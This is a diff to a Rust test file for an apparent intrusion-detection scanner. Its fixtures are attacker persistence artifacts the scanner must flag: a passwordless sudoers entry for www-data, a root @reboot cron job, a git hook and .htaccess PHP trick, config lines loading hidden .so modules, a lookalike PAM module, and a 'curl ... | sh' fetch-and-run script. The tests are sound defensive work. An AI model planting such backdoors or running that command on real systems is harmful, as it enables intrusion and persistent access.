@@ -88,10 +88,24 @@ fn the_line_that_matters_is_at_its_offset() {
     }
 }
 
+/// A rule, the file that it finds: path, mode, contents; and the least severity.
+type Case<'c> = (&'c str, &'c str, u32, &'c [u8], Severity);
+
+/// Each file is found by its rule, at least as severe as said.
+fn finds(cases: &[Case<'_>], others: &[(&str, u32, &[u8])]) {
+    let files: Vec<(&str, u32, &[u8])> =
+        cases.iter().map(|(_, path, mode, contents, _)| (*path, *mode, *contents)).collect();
+    let findings = with_changes(&[files.as_slice(), others].concat());
+    for (rule, path, _, _, least) in cases {
+        let found = severity_of(&findings, rule, path);
+        assert!(found >= Some(*least), "{rule} {path}: {found:?}");
+    }
+}
+
 #[test]
 fn other_ways_to_come_back_are_found() {
     let elf = elf();
-    let cases: &[(&str, &str, u32, &[u8], Severity)] = &[
+    let cases: &[Case<'_>] = &[
         ("FS-002", "/etc/sudoers.d/x", 0o440, b"www-data ALL=(ALL) NOPASSWD: ALL\n", Severity::High),
         ("FS-004", "/var/spool/cron/crontabs/root", 0o600, b"@reboot /dev/shm/.a/run\n", Severity::High),
         (
@@ -151,6 +165,14 @@ fn other_ways_to_come_back_are_found() {
         ),
         ("FS-028", "/srv/site/.git/hooks/post-merge", 0o755, b"#!/bin/sh\n/tmp/.x/run\n", Severity::High),
         ("FS-028", "/var/www/html/.htaccess", 0o644, b"AddType application/x-httpd-php .jpg\n", Severity::High),
+    ];
+    finds(cases, &[]);
+}
+
+#[test]
+fn places_that_are_seldom_looked_at() {
+    let elf = elf();
+    let cases: &[Case<'_>] = &[
         ("FS-028", "/etc/nginx/nginx.conf", 0o644, b"load_module /usr/lib/.k/x.so;\n", Severity::High),
         ("FS-028", "/etc/php/8.4/cli/conf.d/99-x.ini", 0o644, b"extension=/tmp/x.so\n", Severity::High),
         ("FS-028", "/etc/ssl/openssl.cnf", 0o644, b"[x]\ndynamic_path = /dev/shm/e.so\n", Severity::High),
@@ -192,16 +214,12 @@ fn other_ways_to_come_back_are_found() {
             Severity::High,
         ),
     ];
-    let files: Vec<(&str, u32, &[u8])> =
-        cases.iter().map(|(_, path, mode, contents, _)| (*path, *mode, *contents)).collect();
-    // The script that the job of cron runs, and what it does.
-    let script: (&str, u32, &[u8]) =
-        ("/usr/local/sbin/fetch", 0o755, b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n");
-    let findings = with_changes(&[files.as_slice(), &[script]].concat());
-    for (rule, path, _, _, least) in cases {
-        let found = severity_of(&findings, rule, path);
-        assert!(found >= Some(*least), "{rule} {path}: {found:?}");
-    }
+    // What the job of cron and the rules for logins name.
+    let others: [(&str, u32, &[u8]); 2] = [
+        ("/usr/local/sbin/fetch", 0o755, b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"),
+        ("/lib/x86_64-linux-gnu/security/pam_unixx.so", 0o644, &elf),
+    ];
+    finds(cases, &others);
 }
 
 #[test]
